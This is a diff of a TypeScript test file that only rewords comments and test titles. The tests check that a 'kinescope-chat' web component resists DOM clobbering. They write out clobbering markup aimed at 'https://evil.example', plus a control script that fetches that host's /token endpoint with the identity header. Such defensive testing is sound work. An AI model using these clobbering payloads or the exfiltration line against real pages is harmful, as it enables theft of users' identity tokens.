@@ -10,7 +10,7 @@ const EVIL = 'https://evil.example'
 const TAG = `<kinescope-chat event-id="${EVENT}"></kinescope-chat>`
 const SETTINGS = `data-token-url="${EVIL}/token" data-chat-origin="${EVIL}" data-identity="e.v.l" data-upgrade="body" src="${EVIL}/kinescope-chat.js" href="${EVIL}/kinescope-chat.js"`
 
-/** Elements whose name or id takes the place of a property of `document` or of the window. */
+/** Elements whose name or id replaces a property of `document` or of the window. */
 const SHAPES: Record<string, (name: string) => string> = {
   'an image': (name) => `<img name="${name}" alt="" ${SETTINGS}>`,
   'two images': (name) =>
@@ -18,14 +18,14 @@ const SHAPES: Record<string, (name: string) => string> = {
   'a form with fields': (name) =>
     `<form name="${name}" id="${name}" ${SETTINGS}><input name="src" value="${EVIL}/kinescope-chat.js"><input name="dataset"><output name="dataset" ${SETTINGS}></output></form>`,
   'an object': (name) => `<object id="${name}" ${SETTINGS}></object>`,
-  // without an address: a page isn't loaded before what it embeds, and nobody answers there
+  // without an address: a page loads only after its embeds, and no server answers there
   'an embed': (name) => `<embed name="${name}" ${SETTINGS.replace(/ src="[^"]*"/, '')}>`,
   'a link': (name) => `<a id="${name}" name="${name}" ${SETTINGS}>x</a>`,
   'a drawing’s script': (name) => `<svg><script id="${name}" ${SETTINGS} type="text/plain"></script></svg>`,
   'a frame': (name) => `<iframe name="${name}" title="x" ${SETTINGS.replace(/ src="[^"]*"/, '')}></iframe>`,
 }
 
-/** What the element and lit read of `document` and the window, and what looks as if they might. */
+/** The properties of `document` and the window that the element and lit read, and similar names. */
 const NAMES = [
   ...[
     'currentScript',
@@ -84,7 +84,7 @@ const NAMES = [
     'URLSearchParams',
   ],
 ]
-/** What lit itself asks for: a chat may not come, but nothing leaks and the page goes on. */
+/** Properties that lit itself requires: a chat may not start, but nothing leaks and the page goes on. */
 const STOPPERS = [
   ...[
     'createElement',
@@ -113,7 +113,7 @@ const STOPPERS = [
   ],
 ]
 
-/** The markup once for each name, written while the page is parsed: an address has no room for all of it. */
+/** The markup once for each name, written while the page is parsed: all of it would be too long for an address. */
 const written = (names: string[], markup: (name: string) => string) =>
   `<script>for (const name of ${JSON.stringify(names)}) document.write(${JSON.stringify(markup('%')).replaceAll('<', '\\u003c')}.replaceAll('%', name))</script>`
 
@@ -132,9 +132,9 @@ async function openAmong(content: string) {
   return { page, asked, sent }
 }
 
-describe('a page whose content bears the names of what the file reads', () => {
+describe('a page whose content uses the names of properties that the file reads', () => {
   for (const [shape, markup] of Object.entries(SHAPES))
-    it(`has its chat, and nobody else has its statement: ${shape}`, async () => {
+    it(`shows its chat, and sends its identity token to no other server: ${shape}`, async () => {
       const { page, asked, sent } = await openAmong(written(NAMES, markup))
       const chat = await until(() => {
         const found = page.document.getElementsByTagName('kinescope-chat')[0]
@@ -153,7 +153,7 @@ describe('a page whose content bears the names of what the file reads', () => {
     return [...names].filter((name) => !without.includes(name) && name !== 'constructor')
   }
 
-  it('has its chat, whatever name of a document an image has taken', async () => {
+  it('shows its chat with images named like every property of a document', async () => {
     const names = everyName(Document.prototype, 'write', ...STOPPERS)
     const { page, asked } = await openAmong(written(names, SHAPES['an image']!))
     const [chat] = Reflect.apply(Document.prototype.getElementsByTagName, page.document, ['kinescope-chat'])
@@ -162,7 +162,7 @@ describe('a page whose content bears the names of what the file reads', () => {
     expect(names).to.include.members(['currentScript', 'getRootNode', 'baseURI'])
   })
 
-  it('has its chat in a form whose fields bear every name of a form', async () => {
+  it('shows its chat in a form with fields named like every property of a form', async () => {
     const names = everyName(HTMLFormElement.prototype)
     const { page } = await openAmong(
       `<form lang="ru">${TAG}${written(names, (name) => `<input type="hidden" name="${name}">`)}</form>`,
@@ -174,14 +174,14 @@ describe('a page whose content bears the names of what the file reads', () => {
     expect(names).to.include.members(['getAttribute', 'getRootNode', 'parentNode'])
   })
 
-  it('has its chat beside a frame of another site that is called Zone', async () => {
+  it('shows its chat beside a frame of another site with the name Zone', async () => {
     const { page } = await openAmong(`<iframe name="Zone" title="x" src="${chatOrigin}/chat/zone"></iframe>`)
     await whenState(page.chat()!, 'ready')
     expect(() => Reflect.get(page.window, 'Zone').root as unknown).to.throw()
   })
 
   for (const name of STOPPERS)
-    it(`leaks nothing, whether it has its chat or not: ${name}`, async () => {
+    it(`leaks nothing, with or without a chat: ${name}`, async () => {
       for (const markup of Object.values(SHAPES)) {
         const { sent } = await openAmong(markup(name))
         await new Promise((resolve) => setTimeout(resolve, 30))
@@ -190,7 +190,7 @@ describe('a page whose content bears the names of what the file reads', () => {
       }
     })
 
-  it('would be seen to leak: the control', async () => {
+  it('is caught if it leaks: the control', async () => {
     const { sent } = await openAmong(
       `<script>fetch('${EVIL}/token', { headers: { a: 'e.v.l' } }).catch(() => {})</script>`,
     )
